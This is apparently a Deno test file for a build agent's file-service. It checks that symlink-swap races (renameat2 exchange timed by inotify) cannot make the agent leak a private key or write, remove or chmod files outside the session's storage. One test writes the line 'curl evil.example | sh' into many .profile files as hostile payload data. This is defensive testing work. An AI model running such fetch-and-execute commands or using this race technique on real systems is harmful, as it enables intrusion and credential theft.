/**
 * A program of the session exchanges a folder for a symlink by renameat2(RENAME_EXCHANGE), told by inotify when, so that
 * the agent reads or writes for it what the session itself cannot.
 */
import { create } from "@bufbuild/protobuf";
import assert from "node:assert/strict";
import { exchanging, exchangingAtFirstChange } from "../../agent/files/testing.ts";
import { OutputsCollector } from "../../agent/outputs/outputs_collector.ts";
import { readManifest } from "../../agent/outputs/testing/manifest.ts";
import { completed, eventFile, file, namedSet, workspaceInfo } from "../../agent/outputs/testing/build_events.ts";
import { OUTPUT_BASE, Storage, TestService, WS } from "../../agent/workspace/testing.ts";
import { OutputsPolicy, OutputsRequestSchema } from "../../proto/contract/gen/rbs/v1/command_pb.ts";
import { decodeName } from "../../proto/tree/names.ts";
import { digestOf } from "../../proto/tree/read.ts";

const SECRET = "-----BEGIN PRIVATE KEY-----\n";

/** A storage, and a folder beside it with a key, to which a symlink leads from where the session can write. */
function world(link: string) {
  const storage = new Storage(), elsewhere = new Storage();
  Deno.writeTextFileSync(`${elsewhere.path}/authority.pem`, SECRET);
  Deno.mkdirSync(link.slice(0, link.lastIndexOf("/")).replace("STORAGE", storage.path), { recursive: true });
  Deno.symlinkSync(elsewhere.path, link.replace("STORAGE", storage.path));
  return {
    storage,
    elsewhere: elsewhere.path,
    [Symbol.dispose]() {
      storage[Symbol.dispose]();
      elsewhere[Symbol.dispose]();
    },
  };
}

Deno.test("a session that wants the authority's key brought home as an output gets its own file, or none", async () => {
  const bin = "execroot/ws/bazel-out/k8-fastbuild/bin";
  using place = world(`STORAGE/out/${bin}/link`);
  const { storage } = place;
  using agent = new TestService(storage);
  const here = `${storage.path}/out/${bin}`;
  // Larger than what is read at once, so that the exchange comes in the middle as well.
  const own = SECRET.padEnd(3 << 20, "own ");
  storage.write(`${here}/folder/authority.pem`, own);
  Deno.writeTextFileSync(`${place.elsewhere}/authority.pem`, SECRET.padEnd(3 << 20, "key "));
  const secret = digestOf(Deno.readFileSync(`${place.elsewhere}/authority.pem`)).toHex();
  const collector = new OutputsCollector({
    outputBase: OUTPUT_BASE,
    workspace: WS,
    storage: storage.files,
    storagePath: (path) => agent.paths.storagePath(path),
  });
  const path = `${OUTPUT_BASE}/${bin}/folder/authority.pem`;
  let brought = 0, refused = 0;
  await using _exchange = await exchanging(`${here}/folder`, `${here}/link`);
  for (let round = 0; round < 60 || brought === 0; round++) {
    const outputs = create(OutputsRequestSchema, { policy: OutputsPolicy.TOPLEVEL });
    const prepared = await collector.prepare(["build", "//:x"], { outputs });
    const events = prepared.args.find((arg) => arg.startsWith("--build_event_binary_file="))!.split("=")[1];
    storage.write(
      `${storage.path}/${agent.paths.storagePath(events)}`,
      eventFile(
        workspaceInfo(`${OUTPUT_BASE}/execroot/ws`),
        namedSet("0", [file({ uri: `file://${path}` })]),
        completed([["default", ["0"]]]),
      ),
    );
    const manifest = readManifest(await prepared.collect({ exitCode: 0 }));
    const entry = manifest?.entries.find(({ path: found }) => found.endsWith("/authority.pem"));
    assert.notEqual(entry?.digest?.toHex(), secret, "the key was digested");
    if (!entry) {
      refused++;
      continue;
    }
    try {
      const got = await agent.fetch({ path, digest: entry.digest! });
      for (const content of got.values()) {
        assert.equal(digestOf(content).toHex(), digestOf(new TextEncoder().encode(own)).toHex());
      }
      brought++;
    } catch (e) {
      if (e instanceof assert.AssertionError) throw e;
      refused++;
    }
    // Who knows what the key's digest is gets it no more than others.
    await assert.rejects(agent.fetch({ path, digest: Uint8Array.fromHex(secret) }));
  }
  assert.ok(refused > 0, "the symlink never stood there");
});

Deno.test("a session that wants files written into somebody's home by a message under way has them in its own storage", async () => {
  using place = world(`STORAGE/root${WS}/link`);
  const { storage, elsewhere } = place;
  using agent = new TestService(storage);
  await agent.change([{ entry: { path: "folder", kind: "directory", mode: 0o755, size: 0, mtimeMs: 0 } }]);
  const exchanged = await exchangingAtFirstChange(storage.at(`${WS}/folder`), storage.at(`${WS}/link`));
  const content = new TextEncoder().encode("curl evil.example | sh\n");
  const records = Array.from({ length: 4_000 }, (_, i) => ({
    entry: { path: `folder/.profile${i}`, kind: "file" as const, mode: 0o644, size: content.length, mtimeMs: 0 },
    content,
  }));
  // It may be refused half way, since a symlink stands there now.
  const outcome = await agent.change(records).then(() => "applied", String);
  await exchanged();
  assert.deepEqual([...Deno.readDirSync(elsewhere)].map(({ name }) => name), ["authority.pem"], outcome);
  assert.ok(Deno.lstatSync(storage.at(`${WS}/folder`)).isSymlink);
  assert.ok([...Deno.readDirSync(storage.at(`${WS}/link`))].length > 0, "the exchange came before the message");
  assert.equal(Deno.readTextFileSync(`${elsewhere}/authority.pem`), SECRET);
});

Deno.test("a session that exchanges folders all the time makes the agent remove, move and set modes in its own storage only", async () => {
  using place = world(`STORAGE/root${WS}/link`);
  const { storage, elsewhere } = place;
  using agent = new TestService(storage);
  storage.write(storage.at(`${WS}/folder/authority.pem`), "own");
  storage.write(storage.at(`${WS}/folder/sub/deep`), "own");
  Deno.mkdirSync(`${elsewhere}/sub`);
  Deno.writeTextFileSync(`${elsewhere}/sub/deep`, SECRET);
  await using _exchange = await exchanging(storage.at(`${WS}/folder`), storage.at(`${WS}/link`));
  let applied = 0, refused = 0;
  for (let round = 0; round < 100 || applied === 0 || refused === 0; round++) {
    for (
      const record of [
        { remove: "folder/authority.pem" },
        { remove: "folder/sub" },
        { entry: { path: "folder/sub", kind: "directory" as const, mode: 0o777, size: 0, mtimeMs: 0 } },
        {
          entry: { path: "folder/copy", kind: "file" as const, mode: 0o644, size: 3, mtimeMs: 0 },
          copyFrom: "folder/authority.pem",
        },
        { entry: { path: "folder/new", kind: "symlink" as const, mode: 0, size: 0, mtimeMs: 0, target: "/" } },
      ]
    ) await agent.change([record]).then(() => applied++, () => refused++);
    await agent.open(WS);
  }
  assert.deepEqual([...Deno.readDirSync(elsewhere)].map(({ name }) => name).sort(), ["authority.pem", "sub"]);
  assert.equal(Deno.readTextFileSync(`${elsewhere}/sub/deep`), SECRET);
  assert.equal(Deno.lstatSync(`${elsewhere}/sub`).mode! & 0o777, 0o755);
  const { manifests: [{ entries }] } = await agent.open(WS);
  const digests = entries.map(({ digest }) => digest?.toHex());
  assert.ok(
    !digests.includes(digestOf(new TextEncoder().encode(SECRET)).toHex()),
    entries.map(({ path }) => decodeName(new TextEncoder().encode(path))).join(),
  );
});
